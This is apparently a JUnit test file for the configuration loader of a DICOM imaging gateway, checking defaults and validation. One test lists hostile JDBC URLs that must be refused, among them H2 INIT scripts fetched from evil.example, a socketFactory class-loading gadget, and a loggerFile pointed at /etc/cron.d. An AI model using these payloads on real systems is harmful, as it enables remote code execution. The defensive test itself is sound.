package org.varde.gateway.config;

import io.vertx.core.json.JsonObject;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.varde.dicom.data.StorageSopClasses;
import org.varde.dicom.data.UID;
import org.varde.gateway.Main;
import org.varde.gateway.jobs.Backoff;

import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Set;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

class ConfigLoaderTest {
    @TempDir
    Path dir;

    private ConfigException refused(String yaml) {
        return assertThrows(ConfigException.class, () -> ConfigLoader.parse(yaml, dir));
    }

    @Test
    void emptyFileGivesTheDocumentedDefaults() throws Exception {
        GatewayConfig config = ConfigLoader.parse("", dir);
        assertEquals("VARDE", config.dicom().aeTitle());
        assertEquals(11112, config.dicom().port());
        assertEquals(64, config.dicom().maxAssociations());
        assertEquals(List.of(), config.dicom().allowedCallers());
        assertFalse(config.dicom().allowAnyCaller(), "deny by default");
        assertEquals(List.of(), config.dicom().callerRules(), "no caller accepted");
        assertEquals(8080, config.http().port());
        assertEquals(java.time.Duration.ofSeconds(60), config.http().idleTimeout());
        assertEquals(256, config.http().maxConnections());
        assertEquals(null, config.http().oidc());
        assertFalse(config.http().demoToken(), "no config turns the demo token on");
        assertEquals(dir.resolve("var").toAbsolutePath().normalize(), config.storage().dir());
        assertTrue(config.storage().fsync());
        assertTrue(config.store().url().startsWith("jdbc:h2:file:" + dir.resolve("var/db/varde").toAbsolutePath()));
    }

    @Test
    void orchestrationSectionsHaveTheirDocumentedDefaults() throws Exception {
        GatewayConfig config = ConfigLoader.parse("", dir);
        assertFalse(config.routing().configured(), "no routing section: nothing is sent");
        assertEquals(Duration.ofSeconds(60), config.completion().defaultIdle());
        assertEquals(Duration.ofSeconds(30), config.completion().mppsGrace());
        assertEquals(Duration.ofSeconds(30), config.jobs().lease());
        assertEquals(5, config.jobs().maxAttempts());
        assertEquals(new Backoff(Duration.ofSeconds(15), Duration.ofSeconds(900)), config.jobs().backoff());
        assertEquals("VARDE", config.dispatch().callingAeTitle());
        assertTrue(config.node().id().endsWith("-" + ProcessHandle.current().pid()), config.node().id());
    }

    @Test
    void dicomLimitsHaveTheirDefaultsAndAreValidated() throws Exception {
        assertEquals(org.varde.dicom.data.ReadLimits.DEFAULTS, ConfigLoader.parse("", dir).dicom().limits().header());
        GatewayConfig config = ConfigLoader.parse("""
                dicom:
                  limits:
                    bulkValueBytes: 4096
                    headerBudgetBytes: 2097152
                    maxInflationRatio: 50
                    maxInflatedBytes: 8388608
                """, dir);
        assertEquals(new org.varde.dicom.data.ReadLimits(4096, 2097152, 50, 8388608),
                config.dicom().limits().header());
        assertEquals(DicomLimits.DEFAULTS.maxPendingConnections(), config.dicom().toServerOptions().maxPendingConnections());
        GatewayConfig connections = ConfigLoader.parse("""
                dicom:
                  limits:
                    maxPendingConnections: 20
                    maxPendingConnectionsPerHost: 4
                    associationRequestTimeoutSeconds: 5
                    idleTimeoutSeconds: 60
                """, dir);
        org.varde.dicom.net.DicomServerOptions options = connections.dicom().toServerOptions();
        assertEquals(20, options.maxPendingConnections());
        assertEquals(4, options.maxPendingConnectionsPerHost());
        assertEquals(5_000, options.artimTimeoutMillis());
        assertEquals(60_000, options.idleTimeoutMillis());
        assertEquals("dicom.limits.maxPendingConnectionsPerHost", refused(
                "dicom:\n  limits:\n    maxPendingConnections: 4\n    maxPendingConnectionsPerHost: 8\n").key());
        assertEquals("dicom.limits.associationRequestTimeoutSeconds",
                refused("dicom:\n  limits:\n    associationRequestTimeoutSeconds: 0\n").key());
        assertEquals("dicom.limits.maxInflationRatio", refused("dicom:\n  limits:\n    maxInflationRatio: 1\n").key());
        assertEquals("dicom.limits.bulkValueBytes", refused("dicom:\n  limits:\n    bulkValueBytes: -1\n").key());
        assertEquals("dicom.limits.maxHeader", refused("dicom:\n  limits:\n    maxHeader: 5\n").key());
    }

    @Test
    void postgresqlUrlInTheIssueFormBecomesAJdbcUrlWithItsOwnUser() throws Exception {
        GatewayConfig config = ConfigLoader.parse("store:\n  url: postgresql://db.local:5432/varde?user=gw\n", dir);
        assertEquals("jdbc:postgresql://db.local:5432/varde?user=gw", config.store().url());
        assertNull(config.store().user(), "the URL's user, not H2's sa");
        assertEquals("store.url", refused("store:\n  url: mysql://x/y\n").key());
    }

    @Test
    void routingFilesAreRelativeToTheConfigFileAndComeAsAPair() throws Exception {
        Path folder = Files.createDirectories(dir.resolve("etc"));
        Path file = folder.resolve("varde.yaml");
        Files.writeString(file, "routing:\n  algorithms: ./algorithms.yaml\n  routes: ../routes.yaml\n");
        GatewayConfig config = ConfigLoader.load(file);
        assertEquals(folder.resolve("algorithms.yaml").toAbsolutePath().normalize(), config.routing().algorithms());
        assertEquals(dir.resolve("routes.yaml").toAbsolutePath().normalize(), config.routing().routes());
        assertEquals(file.toAbsolutePath().normalize(), config.source(), "a reload reads this file again");
        assertEquals("routing.routes", refused("routing:\n  algorithms: a.yaml\n").key());
    }

    @Test
    void orchestrationValuesAreCheckedAndNamed() {
        assertEquals("jobs.leaseSecs: unknown key", refused("jobs:\n  leaseSecs: 3\n").getMessage());
        assertEquals("jobs.backoffCapSeconds", refused("jobs:\n  backoffBaseSeconds: 60\n  backoffCapSeconds: 10\n").key());
        assertEquals("jobs.maxAttempts", refused("jobs:\n  maxAttempts: 0\n").key());
        assertEquals("completion.defaultIdleSeconds", refused("completion:\n  defaultIdleSeconds: 0\n").key());
        assertEquals("dispatch.callingAeTitle", refused("dispatch:\n  callingAeTitle: MUCH-TOO-LONG-AE-TITLE\n").key());
        assertEquals("node.id", refused("node:\n  id: \"\"\n").key());
    }

    @Test
    void portOutOfRangeIsNamedWithItsValue() {
        assertEquals("dicom.port: must be 1..65535, was 70000", refused("dicom:\n  port: 70000\n").getMessage());
        assertEquals("http.port: must be 1..65535, was 0", refused("http:\n  port: 0\n").getMessage());
    }

    @Test
    void storageGuardsHaveTheirDefaultsAndAreValidated() throws Exception {
        StorageSettings defaults = ConfigLoader.parse("", dir).storage();
        assertEquals(1L << 30, defaults.minFreeBytes(), "1 GiB free space by default");
        assertEquals(4L << 30, defaults.maxInstanceBytes(), "4 GiB per instance by default");
        StorageSettings set = ConfigLoader.parse("storage:\n  minFreeBytes: 10737418240\n  maxInstanceBytes: 0x10000000\n",
                dir).storage();
        assertEquals(10L << 30, set.minFreeBytes(), "beyond an int");
        assertEquals(0, ConfigLoader.parse("storage:\n  minFreeBytes: 0\n", dir).storage().minFreeBytes(), "0: off");
        assertEquals("storage.minFreeBytes", refused("storage:\n  minFreeBytes: -1\n").key());
        assertEquals("storage.minFreeBytes", refused("storage:\n  minFreeBytes: 1GiB\n").key());
        assertEquals("storage.maxInstanceBytes", refused("storage:\n  maxInstanceBytes: 1000\n").key());
    }

    /** A JDBC URL is code: only known parameters reach a driver (H2's INIT= runs any SQL at connect). */
    @Test
    void storeUrlsWithParametersOutsideTheAllowListAreRefused() throws Exception {
        for (String url : List.of(
                "jdbc:h2:file:/tmp/x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
                "jdbc:h2:file:/tmp/x;WRITE_DELAY=0;init=CREATE ALIAS X AS 'void x(){}'",
                "jdbc:h2:file:/tmp/x;AUTO_SERVER=TRUE",
                "jdbc:h2:tcp://evil.example/x",
                "postgresql://db/varde?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "jdbc:postgresql://db/varde?user=gw&loggerFile=/etc/cron.d/x",
                "jdbc:postgresql://db/varde?sslfactory=x.Y",
                "jdbc:postgresql://db/varde?sslmode=sometimes")) {
            ConfigException e = refused("store:\n  url: \"" + url + "\"\n");
            assertEquals("store.url", e.key(), url);
            assertFalse(e.getMessage().contains("evil") || e.getMessage().contains("cron"), "no echo: " + e.getMessage());
        }
        assertTrue(ConfigLoader.parse("store:\n  url: \"jdbc:h2:file:/tmp/x;WRITE_DELAY=0;CACHE_SIZE=8192\"\n", dir)
                .store().url().endsWith("CACHE_SIZE=8192"));
        assertEquals("jdbc:postgresql://db/varde?user=gw&sslmode=verify-full&sslrootcert=/etc/varde/ca.pem",
                ConfigLoader.parse("store:\n  url: \"postgresql://db/varde?user=gw&sslmode=verify-full"
                        + "&sslrootcert=/etc/varde/ca.pem\"\n", dir).store().url());
    }

    @Test
    void storeSslmodeTakesLibpqValuesForPostgresOnly() throws Exception {
        assertEquals("verify-full", ConfigLoader.parse("store:\n  url: postgresql://db/varde\n  sslmode: verify-full\n",
                dir).store().sslModeOrNull());
        assertNull(ConfigLoader.parse("", dir).store().sslModeOrNull(), "the driver's default unless set");
        assertEquals("store.sslmode", refused("store:\n  url: postgresql://db/varde\n  sslmode: strict\n").key());
        assertEquals("store.sslmode", refused("store:\n  sslmode: require\n").key(), "not for H2");
        assertEquals("store.sslmode",
                refused("store:\n  url: postgresql://db/v?sslmode=require\n  sslmode: disable\n").key());
    }

    @Test
    void unknownKeysAreRefusedByName() {
        assertEquals("dicom.aeTitel: unknown key", refused("dicom:\n  aeTitel: VARDE\n").getMessage());
        assertEquals("storag: unknown key", refused("storag:\n  dir: x\n").getMessage());
    }

    @Test
    void wrongTypesAreRefusedByName() {
        ConfigException fsync = refused("storage:\n  fsync: \"yes\"\n");
        assertEquals("storage.fsync", fsync.key());
        assertTrue(fsync.getMessage().contains("true or false"), fsync.getMessage());
        assertEquals("dicom.port", refused("dicom:\n  port: eleven\n").key());
        assertEquals("dicom", refused("dicom: 3\n").key());
        assertEquals("dicom.allowedCallers", refused("dicom:\n  allowedCallers: MODALITY\n").key());
    }

    @Test
    void invalidAeTitlesAndCallersAreRefused() {
        assertEquals("dicom.aeTitle", refused("dicom:\n  aeTitle: THIS_IS_TOO_LONG_17\n").key());
        assertEquals("dicom.aeTitle", refused("dicom:\n  aeTitle: \"A\\\\B\"\n").key());
        assertEquals("dicom.allowedCallers[1]",
                refused("dicom:\n  allowedCallers: [CT1, \"WAY_TOO_LONG_AE_TITLE@10.0.0.1\"]\n").key());
    }

    @Test
    void plainTextTokensAreRefusedSayingWhatToDoInstead() {
        ConfigException tokens = refused("http:\n  apiTokens: [0123456789abcdef0123]\n");
        assertEquals("http.apiTokens", tokens.key());
        assertTrue(tokens.getMessage().contains("./varde token create"), tokens.getMessage());
        assertFalse(tokens.getMessage().contains("0123456789abcdef0123"), "the message never echoes a secret");
        assertEquals("http.apiTokens", refused("http:\n  apiTokens: []\n").key());
    }

    @Test
    void httpLimitsAndOidcAreReadAndCheckedByName() throws Exception {
        GatewayConfig config = ConfigLoader.parse("""
                http:
                  idleTimeoutSeconds: 15
                  maxConnections: 32
                  oidc:
                    issuer: https://idp.example.org/realms/radiology
                    audience: varde
                    jwksFile: keys/jwks.json
                    roleClaim: realm_access.roles
                    roles: {varde-viewer: viewer, varde-admin: admin}
                """, dir);
        assertEquals(java.time.Duration.ofSeconds(15), config.http().idleTimeout());
        assertEquals(32, config.http().maxConnections());
        assertEquals("varde", config.http().oidc().audience());
        assertEquals(dir.resolve("keys/jwks.json").toAbsolutePath().normalize(), config.http().oidc().jwksFile());
        assertEquals(org.varde.gateway.access.Role.ADMIN, config.http().oidc().roles().get("varde-admin"));
        assertEquals("http.maxConnections", refused("http:\n  maxConnections: 0\n").key());
        assertEquals("http.idleTimeoutSeconds", refused("http:\n  idleTimeoutSeconds: -1\n").key());
        String oidc = "http:\n  oidc:\n    issuer: https://idp\n    audience: varde\n";
        assertEquals("http.oidc.jwksUrl", refused(oidc + "    roles: {a: viewer}\n").key());
        assertEquals("http.oidc.jwksUrl", refused(oidc + "    jwksUrl: http://idp.example.org/certs\n"
                + "    roles: {a: viewer}\n").key());
        assertEquals("http.oidc.roles.a", refused(oidc + "    jwksFile: j.json\n    roles: {a: root}\n").key());
        assertEquals("http.oidc.roles", refused(oidc + "    jwksFile: j.json\n").key());
        assertEquals("http.oidc.audience", refused("http:\n  oidc:\n    issuer: https://idp\n    jwksFile: j\n").key());
        // plain HTTP only to this host (a JWKS fetched across a network without TLS could be anyone's keys)
        assertEquals(java.net.URI.create("http://127.0.0.1:9000/certs"), ConfigLoader.parse(oidc
                + "    jwksUrl: http://127.0.0.1:9000/certs\n    roles: {a: viewer}\n", dir).http().oidc().jwksUrl());
    }

    @Test
    void unsafeSyntaxesAndForeignUrlsAreRefused() {
        assertEquals("dicom.acceptedTransferSyntaxes[0]",
                refused("dicom:\n  acceptedTransferSyntaxes: [\"1.2.840..10008\"]\n").key());
        assertEquals("dicom.acceptedTransferSyntaxes[1]",
                refused("dicom:\n  acceptedTransferSyntaxes: [\"1.2.840.10008.1.2\", \"1.2.840.10008.1.2.01\"]\n").key());
        assertTrue(refused("dicom:\n  acceptedTransferSyntaxes: [\"1.2.3.4\"]\n").getMessage().contains("PS3.6"));
        assertEquals("store.url", refused("store:\n  url: jdbc:mysql://x/y\n").key());
        assertEquals("dicom.maxPduLength", refused("dicom:\n  maxPduLength: 100\n").key());
    }

    @Test
    void privateSopClassesAreAcceptedBesideTheStandardOnesAndChecked() throws Exception {
        assertTrue(ConfigLoader.parse("dicom: {}\n", dir).dicom().toServerOptions().acceptedSopClasses().isEmpty(),
                "none listed: the listener's own default, every standard storage SOP class");
        Set<String> accepted = ConfigLoader.parse("dicom:\n  privateSopClasses: [\"1.3.12.2.1107.5.9.1\"]\n", dir)
                .dicom().toServerOptions().acceptedSopClasses();
        assertTrue(accepted.contains("1.3.12.2.1107.5.9.1"));
        assertTrue(accepted.containsAll(StorageSopClasses.all()), "the standard ones stay");
        assertTrue(accepted.contains(UID.Verification) && accepted.contains(UID.ModalityPerformedProcedureStep));
        assertEquals("dicom.privateSopClasses[1]",
                refused("dicom:\n  privateSopClasses: [\"1.3.12.2.1107.5.9.1\", \"1.3.12..2\"]\n").key());
        ConfigException standard = refused("dicom:\n  privateSopClasses: [\"1.2.840.10008.5.1.4.1.1.2\"]\n");
        assertEquals("dicom.privateSopClasses[0]", standard.key());
        assertTrue(standard.getMessage().contains("Annex B.5"), standard.getMessage());
        assertTrue(refused("dicom:\n  privateSopClasses: [\"1.2.840.10008.5.1.4.1.2.2.1\"]\n").getMessage()
                .contains("DICOM-defined"), "a C-FIND model is no storage class");
    }

    @Test
    void duplicateKeysAndBrokenYamlAreRefused() {
        assertTrue(refused("dicom:\n  port: 1\n  port: 2\n").getMessage().contains("port"));
        assertTrue(refused("dicom: [\n").getMessage().startsWith("not valid YAML"));
    }

    @Test
    void relativeStorageDirIsRelativeToTheConfigFile() throws Exception {
        Path folder = Files.createDirectories(dir.resolve("etc"));
        Path file = folder.resolve("varde.yaml");
        Files.writeString(file, "storage:\n  dir: ../data\n  fsync: false\n");
        GatewayConfig config = ConfigLoader.load(file);
        assertEquals(dir.resolve("data").toAbsolutePath().normalize(), config.storage().dir());
        assertFalse(config.storage().fsync());
    }

    @Test
    void allowedCallersAreKept() throws Exception {
        GatewayConfig config = ConfigLoader.parse("""
                dicom:
                  allowedCallers: [CT1, "PACS@10.0.0.12"]
                """, dir);
        assertTrue(config.dicom().toServerOptions().isCallerAllowed("PACS", "10.0.0.12"));
        assertFalse(config.dicom().toServerOptions().isCallerAllowed("PACS", "10.0.0.13"));
    }

    @Test
    void shippedExampleConfigsAreValid() throws Exception {
        Path configs = Path.of("..", "config");
        assertEquals("VARDE", ConfigLoader.load(configs.resolve("varde.yaml")).dicom().aeTitle());
        assertFalse(ConfigLoader.load(configs.resolve("demo.yaml")).http().demoToken(),
                "the demo config alone does not open the API: only ./varde demo does");
        // the demo has its own catalogue (every endpoint on DICOM, at its sandbox vendors) and the same routes
        for (String[] pair : List.of(new String[]{"varde.yaml", "algorithms.yaml"},
                new String[]{"demo.yaml", "demo-algorithms.yaml"})) {
            GatewayConfig config = ConfigLoader.load(configs.resolve(pair[0]));
            assertEquals(configs.resolve("routes.yaml").toAbsolutePath().normalize(), config.routing().routes(), pair[0]);
            assertEquals(configs.resolve(pair[1]).toAbsolutePath().normalize(), config.routing().algorithms(), pair[0]);
        }
    }

    @Test
    void everyKeyOfTheJsonSchemaIsAcceptedWithItsDefault() throws Exception {
        JsonObject schema = new JsonObject(Files.readString(Path.of("..", "config", "varde.schema.json")));
        JsonObject sections = schema.getJsonObject("properties");
        int keys = 0;
        for (String section : sections.fieldNames()) {
            JsonObject properties = sections.getJsonObject(section).getJsonObject("properties");
            if (properties == null) {
                // a list section (sites:) has no keys of its own; SitesConfigTest reads it; outputs: has
                // names the operator chooses as its keys (OutputsConfigTest reads its blocks)
                continue;
            }
            for (String key : properties.fieldNames()) {
                Object dflt = properties.getJsonObject(key).getValue("default");
                if (dflt != null) {
                    // JSON is YAML: the schema's default must be what the loader takes
                    String yaml = "{\"" + section + "\": {\"" + key + "\": " + io.vertx.core.json.Json.encode(dflt) + "}}";
                    ConfigLoader.parse(yaml, dir);
                    keys++;
                }
            }
        }
        assertTrue(keys >= 21, "schema defaults checked: " + keys);
    }

    @Test
    void serveWithAnInvalidConfigExitsNonZeroNamingTheKey() throws Exception {
        Path file = dir.resolve("bad.yaml");
        Files.writeString(file, "dicom:\n  port: 70000\n");
        ByteArrayOutputStream err = new ByteArrayOutputStream();
        PrintStream original = System.err;
        int exitCode;
        try {
            System.setErr(new PrintStream(err, true, StandardCharsets.UTF_8));
            exitCode = Main.run("serve", "--config", file.toString());
        } finally {
            System.setErr(original);
        }
        assertEquals(2, exitCode);
        assertTrue(err.toString(StandardCharsets.UTF_8).contains("config error: dicom.port: must be 1..65535, was 70000"),
                err.toString(StandardCharsets.UTF_8));
    }
}
